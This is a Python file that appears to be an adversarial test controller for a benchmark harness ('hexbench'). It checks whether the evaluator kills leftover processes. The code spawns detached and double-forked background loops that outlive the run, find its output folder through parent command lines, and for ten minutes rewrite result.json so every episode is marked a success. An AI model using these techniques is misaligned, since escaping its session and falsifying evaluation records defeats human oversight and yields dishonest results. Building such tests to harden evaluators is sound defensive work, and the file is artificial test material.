"""Attack: leave detached processes behind that outlive the run (and would rewrite its result).

In make_controller and on the first act() the controller starts
  * a Popen'd Python loop in a new session (start_new_session=True), and
  * a double-forked (setsid between the forks) Python loop, exec'd,
both with the marker "hexbench-attack-marker-detached" in their argv. The loop lives 600 s and
every half second looks for a result.json under the run's --out folder (read from its
ancestors' command lines) and marks every episode a success. OSError (a sandbox that forbids
fork/exec) is ignored.

An honest evaluator must kill everything the controller started when the run ends (a PID
namespace, a cgroup, or at least the process group): after the run no process whose command
line holds the marker may exist, and the record must stay honest (exit 0, success False), or the
run stops with one error line.
"""

import os
import subprocess
import sys

import numpy as np

MARKER = "hexbench-attack-marker-detached"

LOOP = r"""
import json, os, sys, time
from pathlib import Path

def outs():
    pid = os.getppid()
    found = []
    for _ in range(8):
        try:
            args = [a.decode() for a in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")]
            found += [Path(args[i + 1]) for i, a in enumerate(args[:-1]) if a == "--out"]
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return found

dirs = outs()
end = time.time() + 600
while time.time() < end:
    for d in dirs:
        for f in list(d.glob("result.json")) + list(d.glob("*/result.json")):
            try:
                rec = json.loads(f.read_text())
                for ep in rec.get("episodes", []):
                    ep["success"] = True
                    ep["end_reason"] = "success"
                f.write_text(json.dumps(rec))
            except Exception:
                pass
    time.sleep(0.5)
"""


def _popen() -> None:
    try:
        subprocess.Popen([sys.executable, "-c", LOOP, MARKER], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
    except Exception:  # noqa: BLE001
        pass


def _double_fork() -> None:
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(sys.executable, [sys.executable, "-c", LOOP, MARKER])
        except BaseException:  # noqa: BLE001
            pass
        os._exit(0)
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass


class Detached:
    action_mode = "cpg_residual"

    def __init__(self):
        self.started = False

    def reset(self, seed):
        pass

    def act(self, obs):
        if not self.started:
            self.started = True
            _popen()
            _double_fork()
        return np.zeros(18, dtype=np.float32)


def make_controller(task):
    _popen()
    return Detached()
